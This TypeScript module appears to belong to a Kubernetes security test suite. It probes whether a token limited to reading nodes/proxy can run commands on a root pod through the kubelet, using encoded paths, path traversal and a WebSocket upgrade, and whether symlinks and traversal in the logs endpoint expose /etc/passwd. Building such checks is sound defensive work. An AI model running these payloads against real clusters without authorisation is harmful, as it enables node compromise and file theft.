import { each, type Attack } from '../attack.ts';
import { at, type Target } from '../target.ts';

/** The probe pod of the target, which is root on its node. */
const victim = 'kube-system/attack-probe/c';

/** A service account that may only read nodes/proxy; its token. */
async function reader(target: Target, verbs = ['get']): Promise<string> {
  const ns = await target.namespace();
  await target.onNode('true'); // the victim runs
  await target.make(`/api/v1/namespaces/${ns}/serviceaccounts`, {
    apiVersion: 'v1',
    kind: 'ServiceAccount',
    metadata: { name: 'reader' },
  });
  await target.grant(`system:serviceaccount:${ns}:reader`, [
    { apiGroups: [''], resources: ['nodes/proxy'], verbs },
  ]);
  const token = await target.must('POST', `/api/v1/namespaces/${ns}/serviceaccounts/reader/token`, {
    apiVersion: 'authentication.k8s.io/v1',
    kind: 'TokenRequest',
    spec: {},
  });
  return String(at(token, 'status', 'token'));
}

/** What comes back within five seconds on a connection that asks for a WebSocket. */
async function upgraded(target: Target, path: string, token: string): Promise<string> {
  const socket = await target.raw();
  return new Promise((resolve) => {
    let text = '';
    const timer = setTimeout(() => socket.destroy(), 5000);
    socket.on('data', (part: Buffer) => {
      text += part.toString('latin1');
      if (text.includes('uid=')) socket.destroy();
    });
    socket.on('error', () => undefined);
    socket.on('close', () => {
      clearTimeout(timer);
      resolve(text);
    });
    socket.write(
      `GET ${path} HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${token}\r\nConnection: ` +
        'Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: ' +
        'AAAAAAAAAAAAAAAAAAAAAA==\r\nSec-WebSocket-Protocol: v4.channel.k8s.io\r\n\r\n',
    );
  });
}

export const attacks: Attack[] = [
  ...each(
    'kubelet-run-by-get',
    {
      run: `run/${victim}?cmd=id`,
      encoded: `%72un/${victim}?cmd=id`,
      doubled: `/run/${victim}?cmd=id`,
      'through-stats': `stats/../run/${victim}?cmd=id`,
    },
    async (target, path) => {
      const token = await reader(target);
      for (const node of [
        String(target.node),
        `${target.node}:10250`,
        `https:${target.node}:10250`,
      ]) {
        const { status, text } = await target.call({
          path: `/api/v1/nodes/${node}/proxy/${path}`,
          as: { token },
        });
        if (status < 300 || text.includes('uid='))
          return `GET ${path} answers ${status} ${text.slice(0, 100)}`;
      }
      return undefined;
    },
    { needsNode: true },
  ),
  ...each(
    'kubelet-exec-by-get',
    {
      exec: `exec/${victim}?command=id&output=1&error=1`,
      uid: `exec/kube-system/attack-probe/UID/c?command=id&output=1`,
      attach: `attach/${victim}?output=1`,
      'port-forward': 'portForward/kube-system/attack-probe?port=80',
    },
    async (target, path) => {
      const token = await reader(target);
      const uid = String(
        at(
          (await target.call({ path: '/api/v1/namespaces/kube-system/pods/attack-probe' })).json,
          'metadata',
          'uid',
        ),
      );
      const text = await upgraded(
        target,
        `/api/v1/nodes/${target.node}/proxy/${path.replace('UID', uid)}`,
        token,
      );
      if (text === '') throw new Error('no answer');
      return /^HTTP\/1\.1 101/.test(text)
        ? `GET ${path} with the right to read switches protocols: ` +
            `${text.includes('uid=') ? 'the command ran' : ''}`
        : undefined;
    },
    { needsNode: true },
  ),
  ...each(
    'kubelet-logs-elsewhere',
    {
      dots: '../../etc/passwd',
      encoded: '..%2f..%2fetc%2fpasswd',
      'encoded-dots': '%2e%2e/%2e%2e/etc/passwd',
      link: 'attack-link/passwd',
      'link-to-file': 'attack-file',
      'double-slash': '/etc/passwd',
    },
    async (target, path) => {
      await target.onNode(
        'ln -sfn /etc /var/log/attack-link; ln -sfn /etc/passwd /var/log/attack-file',
      );
      target.later(() => target.onNode('rm -f /var/log/attack-link /var/log/attack-file'));
      const { text } = await target.call({
        path: `/api/v1/nodes/${target.node}/proxy/logs/${path}`,
      });
      return text.includes('root:') ? `logs/${path} shows ${text.slice(0, 60)}` : undefined;
    },
    { needsNode: true },
  ),
];
